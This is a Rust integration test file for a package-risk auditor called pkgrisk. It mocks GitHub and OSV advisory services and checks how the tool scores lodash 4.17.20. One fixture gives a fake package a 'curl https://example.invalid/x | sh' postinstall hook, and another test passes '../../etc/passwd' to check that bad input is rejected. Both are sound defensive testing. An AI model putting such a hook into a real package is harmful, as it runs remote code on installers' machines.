use std::path::PathBuf;
use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use pkgrisk::advisory::{GithubAdvisoryProvider, OsvProvider};
use pkgrisk::model::{RiskTier, Severity, SourceStatus, VulnSource};
use pkgrisk::{AuditError, Auditor, SnapshotFile};
use serde_json::{json, Value};
use tempfile::TempDir;
use wiremock::matchers::{body_partial_json, header, method, path, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate};

fn pkgrisk() -> Command {
    Command::new(env!("CARGO_BIN_EXE_pkgrisk"))
}

fn write_json(dir: &TempDir, name: &str, value: &Value) -> PathBuf {
    let path = dir.path().join(name);
    std::fs::write(&path, serde_json::to_string_pretty(value).unwrap()).unwrap();
    path
}

fn lodash_snapshot() -> Value {
    json!({
        "name": "lodash",
        "version": "4.17.20",
        "description": "Lodash modular utilities.",
        "downloads": 45_000_000,
        "maintainers": [
            { "name": "jdalton", "email": "john.david.dalton@gmail.com" },
            { "name": "mathias" }
        ],
        "_npmUser": { "name": "jdalton" },
        "repository": { "type": "git", "url": "git+https://github.com/lodash/lodash.git" },
        "license": "MIT",
        "scripts": { "test": "echo ok" },
        "time": { "4.17.20": "2020-08-13T16:53:54.152Z" }
    })
}

fn github_advisories() -> Value {
    json!([
        {
            "ghsa_id": "GHSA-35jh-r3h4-6jhm",
            "cve_id": "CVE-2021-23337",
            "summary": "Command Injection in lodash",
            "description": "lodash versions prior to 4.17.21 are vulnerable to Command Injection via template.",
            "severity": "high",
            "html_url": "https://github.com/advisories/GHSA-35jh-r3h4-6jhm",
            "published_at": "2021-05-06T16:05:51Z",
            "vulnerabilities": [{
                "package": { "ecosystem": "npm", "name": "lodash" },
                "vulnerable_version_range": "< 4.17.21"
            }]
        },
        {
            "ghsa_id": "GHSA-29mw-wpgm-hmr9",
            "summary": "ReDoS in lodash",
            "severity": "moderate",
            "vulnerabilities": [{
                "package": { "ecosystem": "npm", "name": "lodash" },
                "vulnerable_version_range": ">= 4.0.0, < 4.17.21"
            }]
        }
    ])
}

fn osv_vulns() -> Value {
    json!({
        "vulns": [
            {
                "id": "GHSA-35jh-r3h4-6jhm",
                "summary": "Command Injection in lodash",
                "affected": [{
                    "package": { "name": "lodash", "ecosystem": "npm" },
                    "ranges": [{ "type": "SEMVER", "events": [{ "introduced": "0" }, { "fixed": "4.17.21" }] }]
                }],
                "database_specific": { "severity": "CRITICAL" }
            },
            {
                "id": "GHSA-p6mc-m468-83gw",
                "summary": "Prototype Pollution in lodash",
                "affected": [{
                    "package": { "name": "lodash", "ecosystem": "npm" },
                    "ranges": [{ "type": "SEMVER", "events": [{ "introduced": "4.17.0" }, { "fixed": "4.17.19" }] }]
                }],
                "severity": [{ "type": "CVSS_V3", "score": "7.4" }]
            }
        ]
    })
}

async fn mount_github(server: &MockServer, template: ResponseTemplate) {
    Mock::given(method("GET"))
        .and(path("/advisories"))
        .and(query_param("ecosystem", "npm"))
        .and(query_param("affects", "lodash@4.17.20"))
        .respond_with(template)
        .mount(server)
        .await;
}

async fn mount_osv(server: &MockServer, template: ResponseTemplate) {
    Mock::given(method("POST"))
        .and(path("/v1/query"))
        .and(body_partial_json(json!({
            "package": { "name": "lodash", "ecosystem": "npm" },
            "version": "4.17.20"
        })))
        .respond_with(template)
        .mount(server)
        .await;
}

fn auditor(server: &MockServer, snapshot: PathBuf, timeout: Duration) -> Auditor {
    Auditor::new(Arc::new(SnapshotFile::new(snapshot)))
        .with_provider(Arc::new(
            GithubAdvisoryProvider::new(server.uri(), None, timeout).unwrap(),
        ))
        .with_provider(Arc::new(OsvProvider::new(server.uri(), timeout).unwrap()))
        .with_source_timeout(timeout)
}

#[tokio::test]
async fn test_sources_reporting_same_advisory_are_merged() {
    let server = MockServer::start().await;
    mount_github(&server, ResponseTemplate::new(200).set_body_json(github_advisories())).await;
    mount_osv(&server, ResponseTemplate::new(200).set_body_json(osv_vulns())).await;

    let dir = TempDir::new().unwrap();
    let snapshot = write_json(&dir, "lodash.json", &lodash_snapshot());

    let report = auditor(&server, snapshot, Duration::from_secs(5))
        .audit("lodash", Some("4.17.20"))
        .await
        .unwrap();

    let ids: Vec<&str> = report.vulnerabilities.iter().map(|v| v.id.as_str()).collect();
    assert_eq!(
        ids,
        vec!["GHSA-35jh-r3h4-6jhm", "GHSA-29mw-wpgm-hmr9", "GHSA-p6mc-m468-83gw"]
    );

    // The OSV copy is more severe, so it wins while keeping its GitHub position.
    let shared = &report.vulnerabilities[0];
    assert_eq!(shared.severity, Severity::Critical);
    assert_eq!(shared.source, VulnSource::Osv);
    assert_eq!(shared.affected_version_ranges, vec!["< 4.17.21"]);

    assert_eq!(report.vulnerabilities[1].severity, Severity::Medium);
    assert_eq!(report.vulnerabilities[2].severity, Severity::High);

    assert_eq!(report.sources.len(), 2);
    assert_eq!(report.sources[0].count, 2);
    assert_eq!(report.sources[1].count, 2);
    assert!(report.score > 0);
    assert!(report.narrative.is_fallback());
}

#[tokio::test]
async fn test_failing_source_degrades_to_empty() {
    let server = MockServer::start().await;
    mount_github(&server, ResponseTemplate::new(200).set_body_json(github_advisories())).await;
    mount_osv(&server, ResponseTemplate::new(500).set_body_string("upstream exploded")).await;

    let dir = TempDir::new().unwrap();
    let snapshot = write_json(&dir, "lodash.json", &lodash_snapshot());

    let report = auditor(&server, snapshot, Duration::from_secs(5))
        .audit("lodash", Some("4.17.20"))
        .await
        .unwrap();

    assert_eq!(report.vulnerabilities.len(), 2);
    assert_eq!(report.sources[0].status, SourceStatus::Ok);
    assert_eq!(report.sources[1].status, SourceStatus::Failed);
}

#[tokio::test]
async fn test_slow_source_times_out() {
    let server = MockServer::start().await;
    mount_github(
        &server,
        ResponseTemplate::new(200)
            .set_body_json(github_advisories())
            .set_delay(Duration::from_secs(5)),
    )
    .await;
    mount_osv(&server, ResponseTemplate::new(200).set_body_json(osv_vulns())).await;

    let dir = TempDir::new().unwrap();
    let snapshot = write_json(&dir, "lodash.json", &lodash_snapshot());

    let report = auditor(&server, snapshot, Duration::from_millis(500))
        .audit("lodash", Some("4.17.20"))
        .await
        .unwrap();

    let ids: Vec<&str> = report.vulnerabilities.iter().map(|v| v.id.as_str()).collect();
    assert_eq!(ids, vec!["GHSA-35jh-r3h4-6jhm", "GHSA-p6mc-m468-83gw"]);
    assert_eq!(report.sources[0].status, SourceStatus::Failed);
}

#[tokio::test]
async fn test_missing_snapshot_is_package_not_found() {
    let server = MockServer::start().await;
    mount_github(&server, ResponseTemplate::new(200).set_body_json(json!([]))).await;
    mount_osv(&server, ResponseTemplate::new(200).set_body_json(json!({}))).await;

    let dir = TempDir::new().unwrap();
    let err = auditor(&server, dir.path().join("missing.json"), Duration::from_secs(5))
        .audit("lodash", Some("4.17.20"))
        .await
        .unwrap_err();

    assert!(matches!(err, AuditError::PackageNotFound { .. }));
}

#[tokio::test]
async fn test_github_token_is_sent() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/advisories"))
        .and(header("authorization", "Bearer test-token"))
        .respond_with(ResponseTemplate::new(200).set_body_json(github_advisories()))
        .expect(1)
        .mount(&server)
        .await;

    let provider =
        GithubAdvisoryProvider::new(server.uri(), Some("test-token".to_string()), Duration::from_secs(5))
            .unwrap();
    let dir = TempDir::new().unwrap();
    let snapshot = write_json(&dir, "lodash.json", &lodash_snapshot());

    let report = Auditor::new(Arc::new(SnapshotFile::new(snapshot)))
        .with_provider(Arc::new(provider))
        .audit("lodash", None)
        .await
        .unwrap();
    assert_eq!(report.vulnerabilities.len(), 2);
}

#[test]
fn test_score_command_offline() {
    let dir = TempDir::new().unwrap();
    let snapshot = write_json(
        &dir,
        "sketchy.json",
        &json!({
            "name": "sketchy-helper",
            "version": "0.0.1",
            "downloads": 30,
            "scripts": { "postinstall": "curl https://example.invalid/x | sh" }
        }),
    );
    let github = write_json(
        &dir,
        "github.json",
        &json!([{
            "ghsa_id": "GHSA-aaaa-bbbb-cccc",
            "severity": "critical",
            "vulnerabilities": [{ "package": { "name": "sketchy-helper" } }]
        }]),
    );

    let output = pkgrisk()
        .env("HOME", dir.path())
        .env("XDG_CONFIG_HOME", dir.path())
        .args(["score", "--format", "json", "--metadata"])
        .arg(&snapshot)
        .arg("--advisories")
        .arg(format!("github:{}", github.display()))
        .args(["--fail-on", "high"])
        .output()
        .unwrap();

    assert_eq!(output.status.code(), Some(2), "stderr: {}", String::from_utf8_lossy(&output.stderr));

    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["package"], "sketchy-helper");
    assert_eq!(report["tier"], "CRITICAL");
    assert_eq!(report["vulnerabilities"][0]["id"], "GHSA-aaaa-bbbb-cccc");
    assert_eq!(report["sources"][0]["source"], "github");
    assert_eq!(report["narrative"]["contextualRisk"], "UNKNOWN");
}

#[test]
fn test_score_command_rejects_unknown_source() {
    let dir = TempDir::new().unwrap();
    let snapshot = write_json(&dir, "pkg.json", &json!({ "name": "pkg", "version": "1.0.0" }));

    let output = pkgrisk()
        .env("HOME", dir.path())
        .env("XDG_CONFIG_HOME", dir.path())
        .args(["score", "--metadata"])
        .arg(&snapshot)
        .args(["--advisories", "snyk:whatever.json"])
        .output()
        .unwrap();

    assert_eq!(output.status.code(), Some(1));
}

#[tokio::test]
async fn test_audit_command_against_mock_server() {
    let server = MockServer::start().await;
    mount_github(&server, ResponseTemplate::new(200).set_body_json(json!([]))).await;
    mount_osv(&server, ResponseTemplate::new(200).set_body_json(json!({}))).await;

    let dir = TempDir::new().unwrap();
    let snapshot = write_json(&dir, "lodash.json", &lodash_snapshot());
    let out = dir.path().join("report.json");

    let uri = server.uri();
    let home = dir.path().to_path_buf();
    let snapshot_arg = snapshot.clone();
    let out_arg = out.clone();
    let status = tokio::task::spawn_blocking(move || {
        pkgrisk()
            .env("HOME", &home)
            .env("XDG_CONFIG_HOME", &home)
            .env("PKGRISK_GITHUB_API_URL", &uri)
            .env("PKGRISK_OSV_API_URL", &uri)
            .env_remove("GITHUB_TOKEN")
            .args(["audit", "lodash", "4.17.20", "--format", "json", "--metadata"])
            .arg(&snapshot_arg)
            .arg("--output")
            .arg(&out_arg)
            .args(["--fail-on", "critical"])
            .status()
            .unwrap()
    })
    .await
    .unwrap();

    assert_eq!(status.code(), Some(0));

    let report: Value = serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
    assert_eq!(report["package"], "lodash");
    assert_eq!(report["version"], "4.17.20");
    assert_eq!(report["vulnerabilities"].as_array().unwrap().len(), 0);
    // Two maintainers and a stale release, offset by heavy adoption.
    assert_eq!(report["score"], 21);
    assert_eq!(report["tier"], RiskTier::Medium.as_str());
}

#[test]
fn test_audit_command_rejects_invalid_name() {
    let dir = TempDir::new().unwrap();
    let output = pkgrisk()
        .env("HOME", dir.path())
        .env("XDG_CONFIG_HOME", dir.path())
        .args(["audit", "../../etc/passwd", "--metadata", "unused.json"])
        .output()
        .unwrap();

    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stderr).contains("invalid package identifier"));
}
